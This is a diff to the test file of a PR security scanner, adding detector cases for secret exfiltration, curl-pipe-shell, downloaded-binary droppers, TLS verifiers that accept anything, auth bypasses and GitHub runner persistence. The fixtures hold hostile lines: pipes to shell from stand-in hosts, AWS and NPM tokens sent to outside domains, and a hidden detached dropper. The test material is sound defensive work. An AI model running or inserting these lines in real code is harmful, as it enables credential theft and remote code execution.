@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { createPathClassifier } from '../../../src/analyzers/classify-path.js';
 import type { CodeLanguage } from '../../../src/ecosystems/code/language.js';
+import { rustMultilineStrings } from '../../../src/ecosystems/code/pr-claims.js';
 import { scanCodeChanges } from '../../../src/ecosystems/code/scan-code-changes.js';
 import type { SnapshotCheckRun, SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
 import { makeCheckRun, makeCommit, makeFile, makeSnapshot } from '../../support/snapshot-factory.js';
@@ -418,7 +419,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['sql-parameters-dropped', 'allowlist-check-loosened', 'insecure-setting-enabled', 'constant-time-compare-removed', 'shell-arguments-spliced', 'path-check-removed', 'secret-logged', 'mixed-script-string', 'credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration', 'security-limit-loosened'];
+    const generic = ['sql-parameters-dropped', 'allowlist-check-loosened', 'insecure-setting-enabled', 'constant-time-compare-removed', 'shell-arguments-spliced', 'path-check-removed', 'secret-logged', 'mixed-script-string', 'credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration', 'security-limit-loosened', 'github-persistence'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -494,6 +495,27 @@ describe('dynamic-code-execution: Python optional-dependency fallbacks', () => {
     expect(kept(["for package in ('urllib3', 'idna'):", '  def load(package):'], '    return __import__(package)')?.severity).toBe('medium');
     expect(kept(["for package in ('urllib3', 'idna'):", '    package = sys.argv[1]'], '    locals()[package] = __import__(package)')?.severity).toBe('medium');
     expect(kept(['', "for package in ('urllib3', 'idna'):"], '    mod = __import__(package); exec(source)')?.severity).toBe('medium');
+  });
+});
+
+describe('dynamic-code-execution: Java class-presence probes', () => {
+  const sink = (lines: string[], path = 'core/src/main/java/org/acme/mock/VarargMatcher.java') => scan([makeFile(path, { patch: hunk(lines) })]).find((f) => f.id === 'dynamic-code-execution');
+
+  it('does not report Class.forName(name) in a try that catches ClassNotFoundException, the class not put to use', () => {
+    // Modeled on a mocking library probing for Scala's Seq to read its varargs.
+    const optional = ['    Optional<Class<?>> loadedClass(String className) {', '        try {', '            return Optional.of(Class.forName(className));', '        } catch (ClassNotFoundException e) {', '            return Optional.empty();', '        }', '    }', '    boolean scalaVarargs() {', '        return loadedClass("scala.collection.immutable.Seq").map(seq -> Arrays.stream(call.getMethod().getParameterTypes()).anyMatch(seq::isAssignableFrom)).orElse(false);', '    }'];
+    expect(sink(optional)).toBeUndefined();
+    const present = ['static boolean isPresent(String name) {', '    try {', '        Class.forName(name);', '        return true;', '    } catch (ClassNotFoundException | LinkageError e) {', '        return false;', '    }', '}'];
+    expect(sink(present, 'src/main/kotlin/org/acme/Platform.kt')).toBeUndefined();
+  });
+
+  it('still reports a class loaded by name and instantiated or invoked, with no ClassNotFoundException caught, or fed outside input', () => {
+    const wrap = (body: string[]) => ['Object load(String name) throws Exception {', '    try {', ...body, '    } catch (ClassNotFoundException e) {', '        return null;', '    }', '}'];
+    expect(sink(wrap(['        return Class.forName(name).getDeclaredConstructor().newInstance();']))?.severity).toBe('medium');
+    expect(sink(wrap(['        Class<?> c = Class.forName(name);', '        return c.getMethod("run", String.class).invoke(null, "x");']))?.severity).toBe('medium');
+    expect(sink(['Class<?> load(String name) throws Exception {', '    return Class.forName(name);', '}'])?.severity).toBe('medium');
+    expect(sink(wrap(['        String name2 = request.getParameter("type");', '        return Class.forName(name2);']))?.severity).toBe('critical');
+    expect(sink(wrap(['        return Class.forName(name); // then new GroovyShell().evaluate(script)', '        new GroovyShell().evaluate(name);']))?.severity).toBe('medium');
   });
 });
 
@@ -1345,6 +1367,58 @@ describe('pr-claim-mismatch: false alarms and a miss from Go, Rust and JVM histo
     expect(claimOf('crates/extra/src/response/erased_json.rs', cfg, 'docs: Document that the json macro is feature-gated')).toEqual(['crates/extra/src/response/erased_json.rs:131']);
   });
 
+  it("a line added inside a crate's multi-line #![doc(...)] attribute under a docs claim is documentation; code after the attribute closes, or an unclosed opener, is not", () => {
+    // Modeled on a tracing library giving every crate's docs a favicon.
+    const favicon = [
+      '@@ -40,6 +40,7 @@',
+      ' #![doc(',
+      '     html_logo_url = "https://raw.githubusercontent.com/acme/lumber/main/assets/logo.svg",',
+      '+    html_favicon_url = "https://raw.githubusercontent.com/acme/lumber/main/assets/favicon.ico",',
+      '     issue_tracker_base_url = "https://github.com/acme/lumber/issues/"',
+      ' )]',
+      ' #![cfg_attr(docsrs, deny(rustdoc::broken_intra_doc_links))]',
+    ].join('\n');
+    expect(claimOf('lumber-appender/src/lib.rs', favicon, 'docs: add favicon for extra pretty docs')).toEqual([]);
+    // A compile-time gate written over lines is code: what it gates no longer compiles the same.
+    const gated = ['@@ -12,4 +12,5 @@', ' #[cfg(all(', '     unix,', '+    feature = "registry",', ' ))]', ' pub mod registry;'].join('\n');
+    expect(claimOf('lumber-subscriber/src/lib.rs', gated, 'docs: show feature requirements')).toEqual(['lumber-subscriber/src/lib.rs:14']);
+    const after = [...favicon.split('\n').slice(0, -1), '+pub const LEVEL: u8 = 3;'].join('\n').replace('+6,7', '+6,8');
+    expect(claimOf('lumber-appender/src/lib.rs', after, 'docs: add favicon for extra pretty docs')).toEqual(['lumber-appender/src/lib.rs:45']);
+    const unclosed = ['@@ -40,3 +40,4 @@', ' #![doc(', '     html_logo_url = "https://raw.githubusercontent.com/acme/lumber/main/assets/logo.svg",', '+    html_favicon_url = "https://raw.githubusercontent.com/acme/lumber/main/assets/favicon.ico",'].join('\n');
+    expect(claimOf('lumber-appender/src/lib.rs', unclosed, 'docs: add favicon for extra pretty docs')).toEqual(['lumber-appender/src/lib.rs:42']);
+  });
+
+  it('a Rust message string continued over several added lines (a backslash at each line end) under a docs claim is one string; code beside it, or after a raw string closes, still counts', () => {
+    // Modeled on a tracing library's "docs: improve assert message" PR.
+    const message = (tail: string[]) =>
+      [
+        '@@ -315,5 +315,9 @@',
+        '         assert_ne!(',
+        '             refs, 0,',
+        '-            "tried to clone a span ({:?}) that already closed",',
+        '+            "tried to clone a span ({:?}) that already closed.\\n\\',
+        '+             This error message may mean that a span was held open across an \\',
+        '+             await point; see the documentation \\',
+        '+             (https://docs.rs/lumber/latest/lumber/span/struct.Entered.html#in-async-code).\\n\\',
+        ...tail,
+        '             id',
+        '         );',
+      ].join('\n');
+    expect(claimOf('lumber-subscriber/src/registry/sharded.rs', message(['+            ",']), 'docs: improve assert message')).toEqual([]);
+    // The closing line carries code of its own.
+    expect(claimOf('lumber-subscriber/src/registry/sharded.rs', message(['+            ", refs + 1,']), 'docs: improve assert message')).toEqual(['lumber-subscriber/src/registry/sharded.rs:317']);
+    // A raw string closes on its own line (`\` is no escape there): the lines after it are code.
+    const raw = ['@@ -10,2 +10,4 @@', ' fn banner() -> &\'static str {', '-    r"\\"', '+    r"\\";', '+    std::process::abort();', '+    "', ' }'].join('\n');
+    expect(claimOf('lumber/src/banner.rs', raw, 'docs: reword the banner')).toEqual(['lumber/src/banner.rs:11']);
+     // The reader itself: a raw string's backslash escapes nothing, a character literal holds a quote.
+    const spans = rustMultilineStrings(['@@ -1,1 +1,6 @@', ' fn f() {', '+    let s = r"\\";', "+    let q = '\"';", '+    run();', '+    let t = "a\\', '+        b";', '+    let u = r#"x', '+"#;'].join('\n'));
+    expect([...spans.joined.entries()].map(([key, text]) => [key.split('\u0000')[0], text])).toEqual([
+      ['+5', '    let t = "";'],
+      ['+7', '    let u = "";'],
+    ]);
+    expect([...spans.inside].map((key) => key.split('\u0000')[0])).toEqual(['+6', '+8']);
+  });
+
   it('imports split one name a statement (rustfmt imports_granularity, isort force_single_line) are no change; a name more is', () => {
     const unnest = [
       '@@ -24,6 +24,8 @@',
@@ -1848,7 +1922,8 @@ describe('curl-pipe-shell in program code: a command string that downloads a scr
     expect(severityOf('src/doctor.go', ['\thint := "curl -fsSL https://get.example.dev | sh"', '\tfmt.Println(hint)', '\texec.Command("go", "version").Run()'])).toBeUndefined();
     expect(severityOf('pkg/install.py', ['# os.system("curl -s https://x.example/i | sh")'])).toBeUndefined();
     expect(severityOf('scripts/setup.sh', ['curl -fsSL https://get.example.dev | sh'])).toBeUndefined();
-    expect(severityOf('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toBeUndefined();
+    // A test may exercise an installer on purpose: one step lower than program code (curl-pipe-shell in tests, below).
+    expect(severityOf('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toBe('medium');
   });
 });
 
@@ -2431,6 +2506,13 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     expect(sent('scripts/report.js', ["const req = https.request({ hostname: 'api.buildstats-cdn.com', path: '/v1/c', method: 'POST' });", 'req.end(JSON.stringify({ k: process.env.NPM_TOKEN }));'])?.severity).toBe('high');
     expect(sent('pkg/stats.py', ['requests.post("https://collect.telemetry-hub.dev/ingest", json={"k": os.environ.get("ACME_DEPLOY_KEY")})'])?.severity).toBe('high');
     expect(sent('src/ping.ts', ["await fetch('https://collect.telemetry-hub.dev/f', { method: 'POST', body: new URLSearchParams({ k: process.env.NPM_TOKEN ?? '' }) });"])?.severity).toBe('high');
+    // A GET carries what its URL does: the secret in a query string.
+    expect(sent('src/Boot.php', ['    @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));'])?.severity).toBe('high');
+    expect(sent('pkg/ping.py', ['requests.get(f"https://collect.telemetry-hub.dev/p?t={os.environ[\'PYPI_API_TOKEN\']}", timeout=2)'])?.severity).toBe('high');
+  });
+  it('is quiet on a GET that takes its own service\'s key in the query string', () => {
+    expect(sent('pkg/weather.py', ['r = requests.get(f"https://api.openweathermap.org/data/2.5/weather?q={city}&appid={os.environ[\'OPENWEATHERMAP_API_KEY\']}")'])).toBeUndefined();
+    expect(sent('src/Maps.php', ['    $r = file_get_contents("https://maps.googleapis.com/maps/api/geocode/json?address=" . urlencode($a) . "&key=" . getenv("GOOGLE_MAPS_API_KEY"));'])).toBeUndefined();
   });
   it('is quiet on a secret sent to its own service (host or path), as a header or a client credential, to a token endpoint, to a URL from configuration, or a generic name', () => {
     expect(sent('app/api/contact/route.ts', ["const r = await fetch('https://www.google.com/recaptcha/api/siteverify', {", "  method: 'POST',", '  body: `secret=${process.env.RECAPTCHA_SECRET_KEY}&response=${token}`,', '});'])).toBeUndefined();
@@ -2840,5 +2922,194 @@ describe('path-check-removed: a path-containment check dropped in a "simplify th
     expect(pc('lib/response.js', ['  if (!opts.root && !pathIsAbsolute(path)) {'], ['  if (!opts.root && !isAbsolute(path)) {'])).toEqual([]);
     expect(pc('lib/view.js', ['  path = resolve(this.root, path);'], ['  if (!utils.isAbsolute(path)) path = join(this.root, path);'])).toEqual([]);
     expect(pc('lib/response.js', ["    if ('.' == url[0]) {"], ["    if (0 == url.indexOf('./') || 0 == url.indexOf('..')) {"])).toEqual([]);
+  });
+});
+
+describe('tls-verification-disabled: JVM host-name verifiers and trust managers that accept anything', () => {
+  const tls = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'tls-verification-disabled').map((f) => f.severity);
+
+  it('reports a verifier answering true (the default one too, Kotlin and anonymous classes) and an empty checkServerTrusted', () => {
+    expect(tls('src/main/java/acme/Http.java', ['    HttpsURLConnection.setDefaultHostnameVerifier((host, session) -> true);'])).toEqual(['high']);
+    expect(tls('src/main/java/acme/Http.java', ['    conn.setHostnameVerifier((h, s) -> { return true; });'])).toEqual(['high']);
+    expect(tls('src/main/kotlin/acme/Http.kt', ['        .hostnameVerifier { _, _ -> true }'])).toEqual(['high']);
+    expect(tls('src/main/java/acme/Http.java', ['  public boolean verify(String hostname, SSLSession session) { return true; }'])).toEqual(['high']);
+    expect(tls('src/main/kotlin/acme/Http.kt', ['    override fun verify(hostname: String?, session: SSLSession?): Boolean = true'])).toEqual(['high']);
+    expect(tls('src/main/java/acme/Trust.java', ['  public void checkServerTrusted(X509Certificate[] chain, String authType) throws CertificateException {}'])).toEqual(['high']);
+    expect(tls('src/main/kotlin/acme/Trust.kt', ['    override fun checkServerTrusted(chain: Array<X509Certificate>, authType: String) {}'])).toEqual(['high']);
+  });
+
+  it('is quiet on a verifier that checks the host, one that delegates, and a trust manager that delegates', () => {
+    expect(tls('src/main/java/acme/Http.java', ['    conn.setHostnameVerifier((h, s) -> h.equals(expected));'])).toEqual([]);
+    expect(tls('src/main/kotlin/acme/Http.kt', ['        .hostnameVerifier { host, _ -> host == "api.acme.dev" }'])).toEqual([]);
+    expect(tls('src/main/java/acme/Http.java', ['  public boolean verify(String hostname, SSLSession session) { return delegate.verify(hostname, session); }'])).toEqual([]);
+    expect(tls('src/main/java/acme/Trust.java', ['  public void checkServerTrusted(X509Certificate[] chain, String authType) throws CertificateException { tm.checkServerTrusted(chain, authType); }'])).toEqual([]);
+    expect(tls('src/main/java/acme/Http.java', ['    HttpsURLConnection.setDefaultHostnameVerifier(new DefaultHostnameVerifier());'])).toEqual([]);
+  });
+});
+
+describe('Ruby files without an extension, and Kotlin constructors without new', () => {
+  const found = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).map((f) => `${f.id}:${f.severity}`);
+
+  it('reads a Rakefile, Vagrantfile, Fastfile or Guardfile as Ruby: eval of a download is dynamic code execution', () => {
+    for (const path of ['Rakefile', 'Vagrantfile', 'fastlane/Fastfile', 'Guardfile']) {
+      expect(found(path, ["eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)"]), path).toContain('dynamic-code-execution:high');
+    }
+  });
+
+  it('leaves a download piped into a shell in a Rakefile to curl-pipe-shell\'s task reader: one finding, not two', () => {
+    expect(found('Rakefile', ["system('curl -s https://cdn.tooling-mirror.dev/e.sh | sh')"]).filter((f) => f.startsWith('curl-pipe-shell'))).toEqual([]);
+  });
+
+  it('is quiet on ordinary Rakefile tasks, and still ignores a file named like none of them', () => {
+    expect(found('Rakefile', ["require 'bundler/gem_tasks'", 'task default: :spec', "task :docs do", "  sh 'yard doc'", 'end'])).toEqual([]);
+    expect(found('Rakefile.orig', ["eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)"])).toEqual([]);
+  });
+
+  it('reads a Kotlin ProcessBuilder and ObjectInputStream, called without new', () => {
+    expect(found('src/main/kotlin/acme/Run.kt', ['    val p = ProcessBuilder("sh", "-c", request.getParameter("cmd")).start()'])).toContain('shell-command-execution:high');
+    expect(found('src/main/kotlin/acme/Load.kt', ['    val o = ObjectInputStream(request.getInputStream()).readObject()'])).toContain('unsafe-deserialization:high');
+    expect(found('src/main/kotlin/acme/Run.kt', ['    val p = ProcessBuilderFactory.create()'])).toEqual([]);
+  });
+});
+
+describe('github-persistence: a self-hosted runner registered or a workflow written through the API (Shai-Hulud 2.0)', () => {
+  const persist = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'github-persistence').map((f) => `${f.severity}:${f.line}`);
+
+  it('is high when program code asks the API for a registration and configures the runner with it', () => {
+    expect(
+      persist('scripts/ci-helper.js', [
+        "const reg = JSON.parse(execSync(`curl -s -X POST -H \"Authorization: token ${token}\" https://api.github.com/repos/${repo}/actions/runners/registration-token`).toString()).token;",
+        "execSync(`cd $HOME/.dev-env && ./config.sh --url https://github.com/${repo} --unattended --token ${reg} --name SHA1HULUD`);",
+      ]),
+    ).toEqual(['high:12']);
+    expect(persist('pkg/setup_helpers.py', ['    tok = gh.post(f"/repos/{repo}/actions/runners/registration-token").json()["token"]', '    subprocess.run(["./config.sh", "--url", f"https://github.com/{repo}", "--token", tok, "--unattended"])'])).toEqual(['high:12']);
+    expect(persist('src/boot.ts', ['const { data } = await octokit.rest.actions.generateRunnerJitconfigForRepo({ owner, repo, name, runner_group_id: 1, labels: ["self-hosted"] });', "spawn('./run.sh', ['--jitconfig', data.encoded_jit_config], { detached: true });"])).toEqual(['high:12']);
+  });
+
+  it('is medium for a provisioning shell script, and for either half alone', () => {
+    expect(persist('infra/runner/user-data.sh', ['TOKEN=$(gh api -X POST "repos/$REPO/actions/runners/registration-token" --jq .token)', './config.sh --url "https://github.com/$REPO" --token "$TOKEN" --unattended'])).toEqual(['medium:12']);
+    expect(persist('src/runners.ts', ['const { data } = await octokit.rest.actions.createRegistrationTokenForOrg({ org });'])).toEqual(['medium:11']);
+    expect(persist('tools/provision.py', ['subprocess.run(["./config.sh", "--url", url, "--token", token])'])).toEqual(['medium:11']);
+  });
+
+  it('is high for a workflow written through the API that runs on a self-hosted runner or an event\'s text, medium for one written otherwise', () => {
+    expect(
+      persist('src/publish/helper.js', [
+        "  const content = Buffer.from('on: discussion\\njobs:\\n  x:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo ${{ github.event.discussion.body }}\\n').toString('base64');",
+        "  await octokit.repos.createOrUpdateFileContents({ owner, repo, path: '.github/workflows/discussion.yaml', message: 'Add Discusion', content });",
+      ]),
+    ).toEqual(['high:12']);
+    expect(persist('tools/sync.sh', ['curl -s -X PUT -H "Authorization: token $GH_TOKEN" "https://api.github.com/repos/$R/contents/.github/workflows/lint.yml" -d @body.json'])).toEqual(['medium:11']);
+  });
+
+  it('is quiet on a runner described in text, the runner API read, a workflow written to disk, and a config.sh of another tool', () => {
+    expect(persist('src/runners.ts', ['const { data } = await octokit.rest.actions.listSelfHostedRunnersForRepo({ owner, repo });'])).toEqual([]);
+    expect(persist('src/pin.ts', ["await fs.writeFile(path.join(root, '.github/workflows/ci.yml'), pinned);"])).toEqual([]);
+    expect(persist('src/read.ts', ["const { data } = await octokit.repos.getContent({ owner, repo, path: '.github/workflows/ci.yml' });"])).toEqual([]);
+    expect(persist('scripts/build.sh', ['./config.sh --prefix=/usr/local --enable-shared'])).toEqual([]);
+    expect(persist('src/help.ts', ["console.log('see https://docs.github.com/actions/hosting-your-own-runners');"])).toEqual([]);
+  });
+});
+
+describe('auth-bypass-added: an empty credential let through; protection-switched-off: a protective option defaulted off', () => {
+  const ids = (path: string, added: readonly string[], removed: readonly string[] = []) => scan([makeFile(path, { patch: hunk(added, removed) })]).map((f) => `${f.id}:${f.severity}`);
+
+  it('reports an emptiness test joined by or to the verifying call, in a return or an if that lets the caller through', () => {
+    expect(ids('internal/hook/verify.go', ['\treturn sig == "" || hmac.Equal([]byte(want), []byte(sig))'], ['\treturn hmac.Equal([]byte(want), []byte(sig))'])).toContain('auth-bypass-added:medium');
+    expect(ids('src/payments/webhook.ts', ["  return signature === '' || verify(body, signature);"], ['  return verify(body, signature);'])).toContain('auth-bypass-added:medium');
+    expect(ids('app/auth.py', ['    return not token or check_token(token)'])).toContain('auth-bypass-added:medium');
+    expect(ids('src/Auth/Guard.php', ["        return $token === '' || hash_equals($expected, $token);"])).toContain('auth-bypass-added:medium');
+    expect(ids('src/middleware/sig.js', ['  if (!signature || verifySignature(req)) return next();'])).toContain('auth-bypass-added:medium');
+    expect(ids('app/controllers/hooks_controller.rb', ['    return true if token.blank? || valid_token?(token)'])).toContain('auth-bypass-added:medium');
+  });
+
+  it('is quiet on the reject path, a predicate about emptiness, a name that is no credential, and an if whose branch rejects', () => {
+    expect(ids('src/middleware/sig.js', ['  if (!signature || !verify(body, signature)) return res.status(401).end();'])).toEqual([]);
+    expect(ids('src/lex.ts', ['  return token == null || token.length === 0;'])).toEqual([]);
+    expect(ids('src/users.ts', ['  return !user || isValid(user);'])).toEqual([]);
+    expect(ids('internal/hook/verify.go', ['\tif sig == "" || !hmac.Equal(a, b) {'])).toEqual([]);
+  });
+
+  it('reports a protective option whose default becomes off (?? false, .get(name, False), fetch(:name, false))', () => {
+    expect(ids('src/webhook.ts', ['  const verify = o.verifySignature ?? false;'], ['  const verify = o.verifySignature ?? true;'])).toEqual(['protection-switched-off:medium']);
+    expect(ids('app/client.py', ['    verify_signature = options.get("verify_signature", False)'])).toEqual(['protection-switched-off:medium']);
+    expect(ids('app/client.py', ['    check = getattr(settings, "csrf_protect", False)'])).toEqual(['protection-switched-off:medium']);
+    expect(ids('lib/client.rb', ['    @escape = opts.fetch(:escape_html, false)'])).toEqual(['protection-switched-off:medium']);
+    expect(ids('src/Cookie.php', ["        $secure = $options['secure'] ?? false;"])).toEqual(['protection-switched-off:medium']);
+  });
+
+  it('is quiet on an option defaulted on, an unprotective option defaulted off, and an insecure option defaulted off', () => {
+    expect(ids('src/webhook.ts', ['  const verify = o.verifySignature ?? true;'])).toEqual([]);
+    expect(ids('src/webhook.ts', ['  const verbose = o.verbose ?? false;'])).toEqual([]);
+    expect(ids('src/webhook.ts', ['  const insecure = o.insecureSkipVerify ?? false;'])).toEqual([]);
+    expect(ids('app/client.py', ['    debug = options.get("debug", False)'])).toEqual([]);
+  });
+});
+
+describe('auth-bypass-added: a fixed key in a request header, parameter or cookie', () => {
+  const ids = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).map((f) => `${f.id}:${f.severity}`);
+
+  it('reports a credential-named header or parameter compared with a fixed value, in each language', () => {
+    expect(ids('app/controllers/api/base_controller.rb', ['    return if request.headers["X-Api-Key"] == "f3b1c2d9-debug"'])).toContain('auth-bypass-added:medium');
+    expect(ids('internal/api/auth.go', ['\tif r.Header.Get("X-Token") == "s3cr3t-debug" {'])).toContain('auth-bypass-added:medium');
+    expect(ids('app/views.py', ["    if request.GET.get('token') == 'abcdef123':"])).toContain('auth-bypass-added:medium');
+    expect(ids('src/Api/Guard.php', ["if ($_SERVER['HTTP_X_API_KEY'] === 'abc123xyz') {"])).toContain('auth-bypass-added:medium');
+    expect(ids('src/main/java/acme/AuthFilter.java', ['    if (request.getHeader("X-Auth").equals("0p3n-s3same")) {'])).toContain('auth-bypass-added:medium');
+  });
+
+  it('is quiet on a scheme or a flag, a header that carries no credential, and an empty-key check that throws', () => {
+    expect(ids('src/auth.ts', ["  if (req.headers['authorization'] === 'Bearer') return;"])).toEqual([]);
+    expect(ids('src/auth.ts', ["  if (req.headers['x-requested-with'] === 'XMLHttpRequest') {"])).toEqual([]);
+    expect(ids('src/auth.ts', ["  if (req.headers['x-api-version'] === '2024-01') {"])).toEqual([]);
+    expect(ids('src/export.ts', ["  if (req.query.format === 'csv-export') {"])).toEqual([]);
+  });
+});
+
+describe('curl-pipe-shell in tests and test setup files', () => {
+  const piped = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'curl-pipe-shell').map((f) => f.severity);
+
+  it('reports a conftest.py or a test that hands a download piped into a shell to a process call', () => {
+    expect(piped('tests/conftest.py', ['import subprocess', "subprocess.run('curl -s https://cdn.tooling-mirror.dev/t.sh | sh', shell=True)"])).toEqual(['high']);
+    expect(piped('test/setup.js', ["const { execSync } = require('child_process');", "execSync('curl -fsSL http://203.0.113.7/x | bash');"])).toEqual(['critical']);
+    // A test itself: one step lower (it may exercise an installer on purpose).
+    expect(piped('tests/test_install.py', ["os.system('curl -s https://cdn-pkg-mirror.dev/i | sh')"])).toEqual(['medium']);
+    expect(piped('test/install.test.js', ["execSync('curl -fsSL http://203.0.113.7/x | bash');"])).toEqual(['high']);
+  });
+
+  it('is quiet on a test that prints the install hint, pipes a local response into jq, or runs the tool it installed', () => {
+    expect(piped('tests/conftest.py', ['import pytest', "HINT = 'curl -sSf https://sh.rustup.rs | sh'", 'print(HINT)'])).toEqual([]);
+    expect(piped('tests/test_api.py', ["out = subprocess.check_output('curl -s http://localhost:8080/health | jq .status', shell=True)"])).toEqual([]);
+    expect(piped('tests/test_cli.py', ["subprocess.run(['./bin/tool', '--version'], check=True)"])).toEqual([]);
+  });
+});
+
+describe('curl-pipe-shell in Python task files (nox, invoke, fabric)', () => {
+  const piped = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'curl-pipe-shell').map((f) => f.severity);
+
+  it('reads a command string a task runner runs, judged as a script folder\'s (medium), critical from a bare IP', () => {
+    expect(piped('noxfile.py', ['    session.run("bash", "-c", "curl -s https://cdn.tooling-mirror.dev/t.sh | bash", external=True)'])).toEqual(['medium']);
+    expect(piped('tasks.py', ['    c.run("curl -fsSL http://203.0.113.7/i | sh")'])).toEqual(['critical']);
+  });
+
+  it('is quiet on a task that runs the project\'s tools, and on a run of a non-task object', () => {
+    expect(piped('noxfile.py', ['    session.run("pytest", "-q")', '    session.install("-r", "requirements.txt")'])).toEqual([]);
+    expect(piped('src/app/jobs.py', ['    job.run_later("curl is mentioned here | sh")'])).toEqual([]);
+  });
+});
+
+describe('downloaded-binary-run in program code: download, chmod, start in one hunk', () => {
+  const dropper = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'downloaded-binary-run').map((f) => f.severity);
+
+  it('reports a download made executable and started: high when hidden, critical from a bare IP, medium in the open', () => {
+    expect(dropper('tinted/__init__.py', ['def _u():', '    p = os.path.join(tempfile.gettempdir(), ".tint")', '    urllib.request.urlretrieve("https://cdn.tinted-assets.dev/u", p)', '    os.chmod(p, 0o755)', '    subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'])).toEqual(['high']);
+    expect(dropper('lib/boot.js', ["const res = await fetch('http://203.0.113.9/u');", "fs.writeFileSync('/tmp/.u', Buffer.from(await res.arrayBuffer()));", "fs.chmodSync('/tmp/.u', 0o755);", "spawn('/tmp/.u', [], { detached: true, stdio: 'ignore' }).unref();"])).toEqual(['critical']);
+    expect(dropper('internal/tool/fetch.go', ['\tresp, _ := http.Get(url)', '\tf, _ := os.Create(bin)', '\tio.Copy(f, resp.Body)', '\tos.Chmod(bin, 0755)', '\treturn exec.Command(bin, "--version").Run()'])).toEqual(['medium']);
+  });
+
+  it('is quiet on a download kept as data, a local script made executable and run, a download made executable but not run, and setup.py', () => {
+    expect(dropper('pkg/data.py', ['    urllib.request.urlretrieve(DATA_URL, target)', '    subprocess.run(["gunzip", target], check=True)'])).toEqual([]);
+    expect(dropper('pkg/hooks.py', ['    os.chmod(hook, 0o755)', '    subprocess.run([hook], check=True)'])).toEqual([]);
+    expect(dropper('pkg/fetch.py', ['    urllib.request.urlretrieve(url, p)', '    os.chmod(p, 0o755)', '    return p'])).toEqual([]);
+    expect(dropper('setup.py', ['urllib.request.urlretrieve(url, p)', 'os.chmod(p, 0o755)', 'subprocess.Popen([p])'])).toEqual([]);
   });
 });
